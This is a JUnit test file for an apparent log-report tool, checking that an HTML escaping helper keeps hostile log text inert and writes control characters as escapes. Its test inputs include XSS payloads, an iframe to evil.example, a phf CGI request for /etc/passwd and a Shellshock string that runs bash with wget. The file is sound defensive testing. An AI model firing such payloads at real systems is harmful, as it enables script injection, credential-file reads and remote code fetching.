package org.probehunt.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile log text stays text, in element content and in quoted attributes. */
class HtmlEscapesTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "/cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd&a=<b>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "Tom & Jerry &amp; &lt;",
        "</td></tr></table><iframe src=//evil.example/>",
        "<!-- comment --><![CDATA[x]]>",
        "() { :; }; /bin/bash -c 'wget http://x/y'"
      })
  void markupStaysText(String hostile) {
    String escaped = HtmlEscapes.text(hostile);
    Document page =
        Jsoup.parse("<p title=\"" + escaped + "\">" + escaped + "</p><p id=end>end</p>");
    Element p = page.selectFirst("p");
    assertEquals(hostile, p.text(), "element text");
    assertEquals(hostile, p.attr("title"), "attribute value");
    assertEquals(0, p.children().size(), "no element was made from " + hostile);
    assertEquals(2, page.select("p").size(), "the page goes on after " + hostile);
    assertTrue(page.select("script, img, iframe").isEmpty(), "nothing active from " + hostile);
    for (char c : "<>\"'".toCharArray()) {
      assertFalse(escaped.indexOf(c) >= 0, "raw " + c + " left in " + escaped);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"a\u0000b", "a\rb", "a\nb", "a\u001b[31mb", "a\u007fb", "a\u2028b"})
  void controlCharactersAreWrittenAsEscapes(String hostile) {
    String escaped = HtmlEscapes.text(hostile);
    assertEquals(Texts.withoutControls(hostile), escaped);
    assertTrue(escaped.contains("\\x") || escaped.contains("\\u"), escaped);
    assertTrue(escaped.chars().noneMatch(c -> c < 0x20 || c == 0x7f), escaped);
  }

  @org.junit.jupiter.api.Test
  void nullIsEmptyAndPairsStayWhileHalvesGo() {
    assertEquals("", HtmlEscapes.text(null));
    assertEquals("\uD83D\uDE00 ok", HtmlEscapes.text("\uD83D\uDE00 ok"), "a whole pair");
    assertEquals("a\uFFFDb\uFFFD", HtmlEscapes.text("a\uD83Db\uDE00"), "halves of a pair");
    assertEquals("abc\u2026", HtmlEscapes.shortened("abcdef", 3));
    assertEquals("&lt;a\u2026", HtmlEscapes.shortened("<ab", 2));
    assertEquals("abc", HtmlEscapes.shortened("abc", 3));
  }
}
